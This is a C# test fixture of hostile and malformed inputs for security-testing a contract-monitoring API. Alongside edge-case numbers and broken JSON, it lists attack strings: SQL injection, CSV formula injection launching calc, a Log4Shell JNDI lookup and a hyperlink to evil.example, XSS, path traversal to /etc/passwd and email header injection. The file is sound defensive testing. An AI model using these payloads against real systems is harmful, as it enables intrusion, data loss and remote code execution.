namespace ContractMonitor.Tests.Security.Hostile;

/// <summary>
/// What an attacker or a broken client sends: wrong types, edge numbers, control characters and
/// unusual unicode, SQL and CSV-formula metacharacters, and sizes the api must bound. No value
/// contains the words the test looks for in answers as signs of leaked internals.
/// </summary>
public static class HostileValues
{
    public static readonly string[] Strings =
    [
        "", " ", "\t", "\u0000", "a\u0000b", "\r\n", "line\r\nBcc: victim@example.org", "\u001b[31mred", "\u007f",
        "\u202Eevil\u202C", "😀", "e\u0301", "\uFEFFA1", "\u0085", "\u2028", "Ａ１", "İ", "ß", "ﬃ", "\u200B",
        "'; DROP TABLE Contracts;--", "1 OR 1=1", "\" OR \"\"=\"", "%", "_", "\\", "' UNION SELECT 1--", "[", "]", "*",
        "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)", "=HYPERLINK(\"http://evil.example\")", "\t=1+1", "\r=1+1",
        "<script>alert(1)</script>", "../../etc/passwd", "${jndi:ldap://evil.example/a}", "{{7*7}}", "%s%s%n",
        "null", "NaN", "Infinity", "-Infinity", "1e309", "true", "[]", "{}",
        "2016-13", "2016-17-Q5", "2016-17-Q0", "2016-00", "9999-99-99", "0001-01-01", "2016-04-31", "2016-02-30", "2016/04",
        "16-17", "2016-2017", "2016-17-q1", "2016-17-Q1 ", " 2016-04", "2016-4", "+2016-04", "２０１６-04",
        "A1 ", " A1", "a1", "A1\u0000", "A1;", "A1'", "Open", "open", "OPEN", "All", "Closed,Open", "0", "-1",
        "9223372036854775808", "1.5", "1e3", "0x10", "00000001",
        new string('x', 4001), new string('x', 100_000), new string('é', 5000), string.Concat(Enumerable.Repeat("😀", 3000)),
        "chair@example.org\r\nBcc: all@example.org", "not an email", "a@b", "@example.org", "a@@example.org",
    ];

    /// <summary>JSON number tokens, some beyond what any .NET type holds and some not JSON at all.</summary>
    public static readonly string[] NumberTokens =
    [
        "0", "-0", "-1", "1", "0.1", "-0.0000001", "1e308", "-1e308", "1e-308", "5e-324", "1e309", "-1e309", "1e400",
        "123456789012345678901234567890", "79228162514264337593543950336", "-79228162514264337593543950336",
        "9223372036854775807", "9223372036854775808", "-9223372036854775809", "2147483647", "2147483648", "-2147483649",
        "0.12345678901234567890123", "99999999999999.9", "1000000000000000", "NaN", "Infinity", "-Infinity", "+1",
        "01", ".5", "5.", "1e", "--1", "0x1F", "1_000",
    ];

    /// <summary>Values of the wrong JSON type for whatever field they land in.</summary>
    public static readonly string[] WrongTypes =
    [
        "null", "true", "false", "\"\"", "\"text\"", "0", "-1", "1.5", "[]", "[null]", "[1,2,3]", "{}", "{\"a\":1}",
        "[[[[[[[[[[]]]]]]]]]]", "{\"$type\":\"FileInfo\"}", "{\"__proto__\":{\"admin\":true}}",
    ];

    /// <summary>Whole bodies that are not the JSON an operation reads.</summary>
    public static readonly string[] RawBodies =
    [
        "", " ", "null", "[]", "{}", "\"string\"", "0", "true", "{", "}", "{\"a\":", "{\"a\":1,}", "{'a':1}", "{a:1}",
        "[1,2", "{\"returns\":[{\"measureCode\":\"A1\"", "NaN", "{\"value\":NaN}", "{\"value\":Infinity}",
        "<?xml version=\"1.0\"?><a/>", "\u0000\u0000", "\uFEFF{}", "{\"a\":1}{\"b\":2}", "// comment\n{}", "/* c */ {}",
        "{\"a\":\"\\ud800\"}", "{\"a\":\"\\u0000\"}", "{\"a\":1,\"a\":2}",
        new string('[', 10_000) + new string(']', 10_000), new string('{', 1) + string.Concat(Enumerable.Repeat("\"a\":{", 200)) + string.Concat(Enumerable.Repeat("}", 201)),
        "measureCode,period,value\nA1,2016-04,50\n",
    ];

    /// <summary>Route values, already escaped for a URL.</summary>
    public static readonly string[] PathValues =
    [
        "0", "-1", "99999999999999999999", "9223372036854775807", "abc", "1.5", "1e3", "%00", "%20", "..", "%2e%2e",
        "%2F", "A1%00", "%27%20OR%201%3D1--", "%F0%9F%98%80", "%FF", "%E2%80%AE", "%0D%0A", "%3Cscript%3E",
        "2016-13", "2016-17-Q9", "1%2C2", "%3Dcmd", "null", "undefined", "%25", new string('9', 400), new string('a', 3000),
    ];

    /// <summary>Content types a JSON or CSV operation must refuse or read correctly.</summary>
    public static readonly string[] ContentTypes =
    [
        "text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
        "application/json; charset=utf-16", "application/json; charset=latin1", "application/octet-stream", "text/csv",
        "application/problem+json", "application/json-patch+json", "*/*", "application", "",
    ];

    /// <summary>Fields no request has, or has under another spelling.</summary>
    public static readonly string[] FieldNames =
        ["unexpected", "id", "Id", "commissionerCode", "MEASURECODE", "measure_code", "$type", "__proto__", "constructor", "status"];

    public static readonly IReadOnlyDictionary<string, string[]> Headers = new Dictionary<string, string[]>
    {
        // HttpClient itself refuses control and non-ASCII characters in headers, so none is sent here.
        ["Idempotency-Key"] = ["", " ", new string('k', 300), "key-1", "'; DROP TABLE IdempotencyKeys;--", "=cmd|' /C calc'!A0"],
        ["Accept"] = ["text/csv", "application/xml", "*/*;q=x", "text/csv;q=0, application/json;q=0", "", "text/csv, text/csv"],
        ["Content-Encoding"] = ["gzip", "br", "identity", "x"],
        ["X-Forwarded-For"] = ["127.0.0.1", "unknown", "1.1.1.1, 2.2.2.2", "'"],
    };
}
